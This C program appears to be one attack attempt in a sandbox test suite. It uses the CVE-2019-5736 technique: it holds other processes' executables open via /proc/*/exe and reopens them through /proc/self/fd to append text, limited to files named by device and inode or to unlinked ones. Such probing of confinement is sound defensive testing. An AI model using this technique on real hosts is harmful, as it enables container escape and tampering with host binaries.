/* fd_self_exe TEXT DEVICE:INODE... - appends TEXT to the program of every process that it can see, once none runs it any more. ATTACKS 44.
 *
 * A running program cannot be opened for writing, so what procfs leads to is held open and reopened until it can be (CVE-2019-5736).
 * Only the files named by DEVICE:INODE and anonymous ones are touched. */
#include <dirent.h>
#include <stdbool.h>

#include "../attempt.h"

#define HELD_MAX 64

static bool is_target(int fd, int argc, char **argv)
{
    struct stat status;
    char id[64];

    if (fd < 0 || fstat(fd, &status) < 0) {
        return false;
    }
    (void)snprintf(id, sizeof id, "%lu:%lu", (unsigned long)status.st_dev, (unsigned long)status.st_ino);
    for (int i = 2; i < argc; i++) {
        if (strcmp(argv[i], id) == 0) {
            return true;
        }
    }
    return status.st_nlink == 0 && S_ISREG(status.st_mode);
}

/* Opens the program of every process, and keeps the targets. */
static int gather(int argc, char **argv, int *held)
{
    DIR *processes = opendir("/proc");
    int count = 0;
    char path[300];

    note("opendir", processes ? 0 : -1);
    for (struct dirent *entry = NULL; processes && (entry = readdir(processes)) != NULL && count < HELD_MAX;) {
        (void)snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (is_target(fd, argc, argv)) {
            note(path, fd);
            held[count++] = fd;
        } else if (fd >= 0) {
            (void)close(fd);
        }
    }
    return count;
}

int main(int argc, char **argv)
{
    int held[HELD_MAX];
    char path[64];
    const char *text = argument(argc, argv, 1);

    attempt_runs();
    note("own program", open("/proc/self/exe", O_RDWR | O_CLOEXEC));
    int count = gather(argc, argv, held);
    for (int round = 0; round < 100; round++) {
        for (int i = 0; i < count; i++) {
            (void)snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (fd >= 0) {
                put_bytes(fd, text, strlen(text));
                (void)close(fd);
            } else if (round == 99) {
                note("reopened", fd);
            }
        }
        pause_millis(10);
    }
    return 0;
}
